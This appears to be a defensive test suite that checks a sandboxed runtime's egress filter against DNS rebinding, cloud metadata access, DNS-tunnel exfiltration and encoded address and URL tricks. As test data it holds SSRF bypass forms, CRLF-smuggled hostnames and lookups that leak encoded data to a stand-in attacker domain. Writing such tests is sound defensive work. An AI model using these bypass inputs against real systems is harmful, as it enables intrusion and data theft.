// Tries the known ways out of a runtime, with a hostile DNS server and a hostile HTTP server. The
// listeners that are refused count what arrives: nothing. The sections have the names of the
// categories in github.com/orgs/community discussion 59883 (`gh-aw`).
//
// These tests cover further threats:
// - wrong ids, wrong names, truncation, floods and alias chains of DNS responses, and 1,000 rounds
//   of rebinding at the edge: `crates/edge/tests/dns.rs`
// - smuggling, forged headers, CONNECT, TRACE and several hosts on one connection:
//   `crates/edge/tests/http.rs`
// - black holes, byte rates, each limit, every order of ends: `crates/edge/tests/flows.rs`
// - the edge cannot listen, execute or open files: `crates/edge/tests/wall.rs`
// - only a checked address can be connected: the type `Checked` of `crates/egress`
//
// Next: `egress-programs.test.ts`.

import { describe, expect, test } from 'vitest';
import type { NetworkEvents } from '../../../src/index.js';
import { repetitions } from '../../repetitions.js';
import { codeOf } from '../network-helpers.js';
import { HOST_ADDRESS, http } from '../outside-helpers.js';
import { until } from '../snapshot-helpers.js';
import { connects, DENIAL, evaluations, FAST, fetches, openPort, useSidecar } from './attempts.js';
import { hostileDns, victim } from './hostile-servers.js';

const HOST = HOST_ADDRESS ?? '';
const inRuntime = useSidecar();

describe.skipIf(HOST_ADDRESS === undefined)('DNS', () => {
  test('a name that changes its address reaches only the address that is allowed', async () => {
    await using good = await http(HOST);
    // Both servers have one port, so only the address decides.
    await using local = await victim('127.0.0.1', good.port);
    await using other = await victim();
    const answers = [HOST, '127.0.0.1', '10.0.0.1', '169.254.169.254', '0.0.0.0'];
    await using names = await hostileDns(({ type, count }) =>
      type === 'A' ? [{ address: answers[count % answers.length] as string }] : [],
    );
    await inRuntime(openPort(good.port, names.port), async (runtime) => {
      const rounds = repetitions(10, 200);
      const url = `http://rebind.example.com:${good.port}/`;
      const cycle = ['200 GET /', ...answers.slice(1).map(() => 'ENOTFOUND private-address')];
      expect(await fetches(runtime, Array(rounds * answers.length).fill(url), { headers: { connection: 'close' } })).toEqual(
        Array(rounds).fill(cycle).flat(),
      );
      // The address is allowed, but for another port.
      const late = [HOST, '127.0.0.1', '0.0.0.0', '::1'].map((host) => ({ host, port: other.port }));
      expect(await connects(runtime, late)).toEqual(['EACCES private-address', ...Array(3).fill('ECONNREFUSED')]);
      expect(good.count()).toBe(rounds);
    });
    expect(await local.reached()).toBe(0);
    expect(await other.reached()).toBe(0);
  });

  test('one address that is not public discards the response, also behind an alias and in the other family', async () => {
    await using refused = await victim();
    const PUBLIC = { address: '8.8.8.8' };
    await using names = await hostileDns(({ name, type }) => {
      if (name.startsWith('six.')) return type === 'AAAA' ? [{ address: `::ffff:${HOST_HEX}` }] : [PUBLIC];
      if (type !== 'A') return [];
      if (name.startsWith('alias.')) return [{ alias: 'b.example.org' }, { owner: 'b.example.org', address: HOST }];
      if (name.startsWith('special.'))
        return [{ alias: 'metadata.google.internal' }, { owner: 'metadata.google.internal', ...PUBLIC }];
      return name.startsWith('mixed.') ? [PUBLIC, { address: '10.0.0.1' }] : [{ address: HOST }];
    });
    await inRuntime(openPort(1, names.port), async (runtime) => {
      await runtime.network.update({ private: null });
      const hosts = ['mixed', 'six', 'alias', 'direct'].map((label) => ({ host: `${label}.example.com`, port: refused.port }));
      expect(await connects(runtime, hosts)).toEqual(Array(4).fill('ENOTFOUND private-address'));
      // No name is pinned to the public address of a discarded response.
      expect(await connects(runtime, [{ host: '8.8.8.8', port: refused.port }])).toEqual(['EACCES name-not-pinned']);
    });
    expect(await refused.reached()).toBe(0);
  });

  test('data leaves neither in names that are not allowed, nor to a DNS server of the program', async () => {
    await using names = await hostileDns(() => [{ address: '8.8.8.8' }]);
    await using stranger = await hostileDns(() => [{ address: '9.9.9.9' }]);
    await inRuntime({ ...openPort(1, names.port), allow: ['one.example.com:443'] }, async (runtime) => {
      const setup = `
        import dns from 'node:dns/promises';
        import dgram from 'node:dgram';
        import net from 'node:net';
        const own = new dns.Resolver();
        own.setServers(['${HOST}:${stranger.port}']);
        const send = (...to) => new Promise((resolve, reject) => {
          const socket = dgram.createSocket('udp4').on('error', reject);
          socket.send(Buffer.alloc(40), ...to, (error) => { socket.close(); error ? reject(error) : resolve('sent'); });
        });
        const open = (port, host) => new Promise((resolve, reject) => net.connect(port, host, resolve).on('error', reject));`;
      const all = await evaluations(runtime, setup, [
        `dns.lookup('c2VjcmV0.attacker.example')`,
        `dns.lookup('c2VjcmV0.one.example.com')`,
        `dns.resolveTxt('c2VjcmV0.attacker.example')`,
        `dns.resolveAny('c2VjcmV0.example.com')`,
        `dns.reverse('8.8.8.8')`,
        `own.resolve4('c2VjcmV0.one.example.com')`,
        `send(${stranger.port}, '${HOST}')`,
        `send(${stranger.port}, 'one.example.com')`,
        `open(${stranger.port}, '${HOST}')`,
        `open(53, '8.8.8.8')`,
        `open(853, '8.8.8.8')`,
      ]);
      expect(all.filter((result) => !DENIAL.test(result))).toEqual([]);
      // A query for an allowed name goes to the server of the option.
      await evaluations(runtime, setup, [`own.resolve4('one.example.com')`]);
    });
    // The name is allowed, so its own query may leave. No other name leaves.
    expect(names.asked.filter((name) => name !== 'one.example.com')).toEqual([]);
    expect(stranger.asked).toEqual([]);
  });

  test('names below a wildcard have a budget', async () => {
    await using names = await hostileDns(() => [{ address: '8.8.8.8' }]);
    await inRuntime(openPort(1, names.port), async (runtime) => {
      const setup = `import dns from 'node:dns/promises';`;
      const tunnel = Array.from({ length: 150 }, (_, n) => `dns.resolve4('data${n}.example.com')`);
      const all = await evaluations(runtime, setup, tunnel);
      expect(all.filter((result) => result.startsWith('done'))).toHaveLength(100);
      expect(new Set(names.asked).size).toBe(100);
    });
  });

  test('control characters of names and responses reach no event and no query', async () => {
    await using names = await hostileDns(({ name }) => [{ alias: `a\r\nb\u001b[31m.${name}` }]);
    await inRuntime(openPort(1, names.port), async (runtime) => {
      const events: NetworkEvents[keyof NetworkEvents][] = [];
      const stops = await Promise.all(
        (['dns', 'denied'] as const).map((type) => runtime.network.on(type, (event) => void events.push(event))),
      );
      const bad = [
        'a\r\nGET / HTTP/1.1.example.com',
        'a\0.example.com',
        'a\u001b[2J.example.com',
        `${'a'.repeat(65_536)}.example.com`,
      ];
      const setup = `import dns from 'node:dns/promises';`;
      const all = await evaluations(
        runtime,
        setup,
        bad.map((name) => `dns.lookup(${JSON.stringify(name)})`),
      );
      expect(all.every((result) => result.startsWith('ENOTFOUND') || result.startsWith('ERR_INVALID_ARG'))).toBe(true);
      expect(names.count()).toBe(0);
      await evaluations(runtime, setup, [`dns.lookup('a.example.com')`]);
      await until(() => events.some(({ type }) => type === 'dns'));
      for (const stop of stops) await stop();
      // JSON has a backslash for each control character.
      const text = JSON.stringify(events);
      expect(text).not.toContain('\\');
      expect(text.length).toBeLessThan(4_000);
    });
  });
});

const HOST_BYTES = HOST.split('.').map(Number);
const HOST_NUMBER = HOST_BYTES.reduce((sum, byte) => sum * 256 + byte, 0);
const hexOf = (high = 0, low = 0): string => (high * 256 + low).toString(16);
const HOST_HEX = `${hexOf(HOST_BYTES[0], HOST_BYTES[1])}:${hexOf(HOST_BYTES[2], HOST_BYTES[3])}`;

describe.skipIf(HOST_ADDRESS === undefined)('addresses', () => {
  const refused = `
    0.0.0.1 10.0.0.1 10.255.255.255 100.64.0.1 100.100.100.200 169.254.0.23 169.254.169.123 169.254.169.253 169.254.169.254
    169.254.170.2 169.254.170.23 172.16.0.1 172.31.255.255 192.0.0.192 192.0.2.77 192.31.196.1 192.52.193.1 192.88.99.1
    192.168.0.1 192.175.48.1 198.18.0.1 198.19.255.255 198.51.100.1 203.0.113.1 224.0.0.1 239.255.255.255 240.0.0.1
    255.255.255.255 168.63.129.16 ::ffff:10.0.0.1 ::ffff:169.254.169.254 ::10.0.0.1 64:ff9b::a00:1 64:ff9b:1::1 2002:a00:1::1
    2001::1 2001:2::1 2001:10::1 2001:20::1 2001:db8::1 3fff::1 5f00::1 100::1 fc00::1 fd00:ec2::254 fd20:ce::254 fe80::1
    fec0::1 ff02::1 fe80::5efe:a00:1 2606:4700::5efe:a00:1`
    .trim()
    .split(/\s+/);

  test('no address that is not public is connected, even if everything public is', async () => {
    await using own = await victim();
    await inRuntime({ outside: 'public', allow: ['*.example.com:*'], limits: FAST }, async (runtime) => {
      const denied: string[] = [];
      const opened: string[] = [];
      const stops = await Promise.all([
        runtime.network.on('denied', ({ address }) => void denied.push(address ?? '')),
        runtime.network.on('open', ({ address }) => void opened.push(address ?? '')),
      ]);
      const hosts = [...refused, HOST, `::ffff:${HOST}`, `::${HOST}`, `64:ff9b::${HOST_HEX}`, `fe80::1%eth0`];
      const all = await connects(
        runtime,
        hosts.map((host) => ({ host, port: own.port })),
      );
      expect(hosts.filter((_, at) => all[at] !== 'EACCES private-address')).toEqual([]);
      await until(() => denied.length >= hosts.length);
      for (const stop of stops) await stop();
      expect(denied).toHaveLength(hosts.length);
      expect(opened).toEqual([]);
    });
    expect(await own.reached()).toBe(0);
  });

  test('a metadata service needs its exact address and port', async () => {
    const targets = ['169.254.169.254', 'fd00:ec2::254'].map((host) => ({ host, port: 80 }));
    await inRuntime({}, async (runtime) => {
      for (const entry of ['169.254.0.0/16:80', '169.254.169.254', '169.254.169.254:*', '0.0.0.0/0:*', 'fd00::/8:80']) {
        const code = await codeOf(runtime.network.update({ private: [entry] }));
        expect([code, ...(await connects(runtime, targets))], entry).toEqual([
          expect.stringMatching(/^(no error|ERR_INVALID_REQUEST)$/),
          'EACCES private-address',
          'EACCES private-address',
        ]);
      }
      expect(await codeOf(runtime.network.update({ allow: ['169.254.169.254:80'] }))).toBe('ERR_INVALID_REQUEST');
      expect(await runtime.network.check('http://169.254.169.254/')).toMatchObject({ allowed: false });
      await runtime.network.update({ private: ['169.254.169.254:80'] });
      expect(await runtime.network.check('http://169.254.169.254/')).toMatchObject({ allowed: true, rule: 'private[0]' });
    });
  });

  test('mail and DNS ports are closed unless a rule has the port', async () => {
    await inRuntime({ outside: 'public', allow: ['one.example.com:*'] }, async (runtime) => {
      const targets = [25, 53, 853].map((port) => ({ host: '8.8.8.8', port }));
      expect(await connects(runtime, targets)).toEqual(Array(3).fill('EACCES port'));
    });
  });
});

describe.skipIf(HOST_ADDRESS === undefined)('encodings', () => {
  const wide = (text: string): string => text.replaceAll(/\d/g, (digit) => String.fromCodePoint(0xff10 + Number(digit)));
  const circled = (text: string): string =>
    text.replaceAll(/\d/g, (digit) => (digit === '0' ? '\u24ea' : String.fromCodePoint(0x2460 + Number(digit) - 1)));
  const percent = (text: string): string => text.replaceAll(/\d/g, (digit) => `%${digit.charCodeAt(0).toString(16)}`);
  const octal = HOST_BYTES.map((byte) => `0${byte.toString(8)}`).join('.');
  const hexadecimal = HOST_BYTES.map((byte) => `0x${byte.toString(16)}`).join('.');
  const forms = [
    String(HOST_NUMBER),
    `0x${HOST_NUMBER.toString(16)}`,
    `0${HOST_NUMBER.toString(8)}`,
    octal,
    hexadecimal,
    `${HOST_BYTES.slice(0, 3).join('.')}.0x${HOST_BYTES[3]?.toString(16)}`,
    `${HOST_BYTES[0]}.${HOST_BYTES[1]}.${(HOST_BYTES[2] ?? 0) * 256 + (HOST_BYTES[3] ?? 0)}`,
    `${HOST}.`,
    wide(HOST),
    circled(HOST),
    HOST.replaceAll('.', '\u3002'),
  ];

  test('no form of an address is a name', async () => {
    await using refused = await victim();
    await using names = await hostileDns(() => [{ address: HOST }]);
    await inRuntime({ ...openPort(1, names.port), outside: 'public' }, async (runtime) => {
      const local = [
        '2130706433',
        '0x7f.1',
        '017700000001',
        '127.1',
        '127.0.0.1.',
        '[::1]',
        '\uff11\uff12\uff17.0.0.1',
        '%31%32%37.0.0.1',
      ];
      const hosts = [
        ...forms,
        ...local,
        percent(HOST),
        `${HOST}%00.example.com`,
        `${HOST}\0.example.com`,
        `${HOST}#.example.com`,
      ];
      const all = await connects(
        runtime,
        hosts.map((host) => ({ host, port: refused.port })),
      );
      const codes = [
        'ENOTFOUND invalid-name',
        'ENOTFOUND',
        'ENOTFOUND special-name',
        'EACCES private-address',
        'ERR_INVALID_ARG_VALUE',
      ];
      expect(hosts.filter((_, at) => !codes.includes(all[at] ?? ''))).toEqual([]);
      expect(names.asked).toEqual([]);
    });
    expect(await refused.reached()).toBe(0);
  });

  test('no form of a URL hides its host', async () => {
    await using refused = await victim();
    await using names = await hostileDns(({ name }) => (name.endsWith('.example.com') ? [{ address: HOST }] : undefined));
    await inRuntime({ ...openPort(1, names.port), outside: 'public' }, async (runtime) => {
      const { port } = refused;
      const urls = [
        ...forms.map((form) => `http://${form}:${port}/`),
        `http://${percent(HOST)}:${port}/`,
        `http://[::ffff:${HOST}]:${port}/`,
        `http://[::${HOST}]:${port}/`,
        `http://one.example.com:80@${HOST}:${port}/`,
        `http://one.example.com#@${HOST}:${port}/`,
        `http://${HOST}:${port}\\@one.example.com/`,
        `http://${HOST}:${port}/one.example.com/`,
        `http:\\\\${HOST}:${port}/`,
        `http:/${HOST}:${port}/`,
        ` \thttp://${HOST.replace('.', '\n.')}:${port}/`,
        `http://${HOST}.nip.io:${port}/`,
        `http://one.example.com:${port}/`,
      ];
      const all = await fetches(runtime, urls);
      expect(urls.filter((_, at) => /^\d/.test(all[at] ?? ''))).toEqual([]);
    });
    expect(await refused.reached()).toBe(0);
  });
});
